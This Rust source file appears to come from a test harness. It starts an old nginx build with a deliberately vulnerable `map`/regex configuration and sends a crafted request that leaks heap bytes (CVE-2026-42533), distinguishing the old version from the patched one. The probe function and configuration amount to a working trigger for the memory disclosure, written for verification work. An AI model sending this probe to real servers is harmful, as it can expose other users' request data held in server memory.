//! The real nginx, unpacked from its package: a master and its workers, and the
//! request that tells the old version from the new one.
//!
//! CVE-2026-42533: a regular expression in a `map` is evaluated between the two
//! passes of a script, first over the lengths and then over the values. It leaves
//! another `$1` behind than the one that was measured, so the old code answers
//! with as many bytes as were measured and writes fewer: the rest is heap.

use crate::corpus::{self, Side};
use crate::haproxy::{free_port, listens};
use crate::needs::{self, Need};
use crate::observe::{self, Identity};
use crate::running::PATIENCE;
use anyhow::{Context as _, Result, bail};
use rustix::process::{Pid, Signal, kill_process};
use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};
use tempfile::TempDir;

pub const WORKERS: usize = 2;
/// Letters in the path; all but the first are measured and not written.
const LETTERS: usize = 52;
/// `z|hit` and a line break: what the request asks for.
const RIGHT: &[u8] = b"z|hit\n";

/// A running nginx in the background, as its service runs it, and its directory.
#[derive(Debug)]
pub struct Nginx {
    directory: TempDir,
    pub service: SocketAddr,
}

/// What the crafted request got.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Answer {
    /// What it asked for, and this many bytes of the server's heap.
    Leaked {
        bytes: usize,
    },
    Right,
}

impl std::fmt::Display for Answer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Leaked { bytes } => write!(f, "{bytes} bytes of the server's heap (the old code)"),
            Self::Right => write!(f, "the 6 bytes it asked for (the new code)"),
        }
    }
}

impl Nginx {
    /// Unpacks the old side of the pair and starts it in front of `backend`.
    pub fn start(backend: SocketAddr) -> Result<Self> {
        needs::ensure(&[Need::NginxLibraries])?;
        let directory = corpus::pair("nginx")?.extract(Side::Old)?;
        let service = free_port()?;
        let nginx = Self { directory, service };
        let home = nginx.directory.path();
        std::fs::write(home.join("nginx.conf"), configuration(home, service, backend)).context("cannot write")?;
        let out = Command::new(nginx.program()).arg("-c").arg(home.join("nginx.conf")).output();
        let out = out.context("cannot start nginx")?;
        if !out.status.success() {
            bail!("nginx does not start: {}", String::from_utf8_lossy(&out.stderr));
        }
        wait_for("nginx to listen", || Ok(listens(service) && nginx.workers_of(nginx.master()?)?.len() == WORKERS))?;
        Ok(nginx)
    }

    pub fn program(&self) -> PathBuf {
        corpus::below(self.directory.path(), Path::new("/usr/sbin/nginx"))
    }

    /// The master, as its pid file says.
    pub fn master(&self) -> Result<u32> {
        read_pid(&self.directory.path().join("nginx.pid"))
    }

    /// The master that an upgrade replaces, for as long as it is there.
    pub fn old_master(&self) -> Result<u32> {
        read_pid(&self.directory.path().join("nginx.pid.oldbin"))
    }

    /// The workers of one master that serve, sorted.
    pub fn workers_of(&self, master: u32) -> Result<Vec<Identity>> {
        let mut workers = Vec::new();
        for pid in self.processes()? {
            let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
            let parent = stat.rsplit(')').next().and_then(|rest| rest.split_whitespace().nth(1));
            let title = std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let serves = title.contains("worker process") && !title.contains("shutting down");
            if serves && parent == Some(master.to_string().as_str()) {
                workers.push(observe::identity(pid)?);
            }
        }
        workers.sort_by_key(|worker| worker.pid);
        Ok(workers)
    }

    /// Every process that runs this program, sorted.
    pub fn processes(&self) -> Result<Vec<u32>> {
        let program = self.program();
        let entries = std::fs::read_dir("/proc").context("no /proc")?.flatten();
        let mut pids: Vec<u32> = entries
            .filter(|entry| std::fs::read_link(entry.path().join("exe")).is_ok_and(|exe| exe == program))
            .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
            .collect();
        pids.sort_unstable();
        Ok(pids)
    }

    pub fn signal(&self, pid: u32, signal: Signal) -> Result<()> {
        let raw = Pid::from_raw(i32::try_from(pid).context("no process id")?).context("process 0")?;
        kill_process(raw, signal).with_context(|| format!("cannot signal process {pid}"))
    }

    /// Sends the crafted request once.
    pub fn probe(&self) -> Result<Answer> {
        let mut stream = TcpStream::connect(self.service).context("cannot connect")?;
        stream.set_read_timeout(Some(PATIENCE)).context("cannot set a timeout")?;
        let path = "a".repeat(LETTERS);
        let request = format!("GET /s/{path}?x=zzz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        stream.write_all(request.as_bytes()).context("cannot send the request")?;
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).context("no answer")?;
        let head_end = answer.windows(4).position(|window| window == b"\r\n\r\n").context("no end of the head")?;
        if !answer.starts_with(b"HTTP/1.1 200") {
            bail!("answered with {:?}", String::from_utf8_lossy(&answer));
        }
        let body = answer.get(head_end + 4..).unwrap_or_default();
        match body.len() {
            6 if body == RIGHT => Ok(Answer::Right),
            len if body.starts_with(b"z") && len == LETTERS + 5 => Ok(Answer::Leaked { bytes: LETTERS - 1 }),
            _ => bail!("neither the old answer nor the new one: {:?}", String::from_utf8_lossy(body)),
        }
    }

    /// The answers of as many requests as reach every worker several times.
    pub fn probe_all(&self) -> Result<Vec<Answer>> {
        let mut answers = (0..WORKERS * 20).map(|_| self.probe()).collect::<Result<Vec<_>>>()?;
        answers.dedup();
        Ok(answers)
    }
}

impl Drop for Nginx {
    fn drop(&mut self) {
        for pid in self.processes().unwrap_or_default() {
            let _gone_already = self.signal(pid, Signal::KILL);
        }
    }
}

fn read_pid(file: &Path) -> Result<u32> {
    let text = std::fs::read_to_string(file).with_context(|| format!("cannot read {}", file.display()))?;
    text.trim().parse().with_context(|| format!("no process id in {}", file.display()))
}

/// Waits until `ready`; a file or a process that is not there yet is not ready.
pub fn wait_for(what: &str, mut ready: impl FnMut() -> Result<bool>) -> Result<()> {
    let since = Instant::now();
    while !ready().unwrap_or(false) {
        if since.elapsed() > PATIENCE {
            bail!("waited in vain for {what}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

fn configuration(home: &Path, service: SocketAddr, backend: SocketAddr) -> String {
    let home = home.display();
    format!(
        "user root root;
worker_processes {WORKERS};
pid {home}/nginx.pid;
error_log {home}/error.log;
events {{ worker_connections 512; }}
http {{
    access_log off;
    client_body_temp_path {home}/body;
    proxy_temp_path {home}/proxy;
    fastcgi_temp_path {home}/fastcgi;
    uwsgi_temp_path {home}/uwsgi;
    scgi_temp_path {home}/scgi;
    keepalive_timeout 10m;
    keepalive_requests 1000000;
    map $arg_x $m {{ default \"none\"; ~^(.) \"hit\"; }}
    server {{
        listen {service} reuseport;
        location ~ ^/s/(.*)$ {{ return 200 \"$1|$m\\n\"; }}
        location / {{
            proxy_pass http://{backend};
            proxy_buffering off;
        }}
    }}
}}
"
    )
}
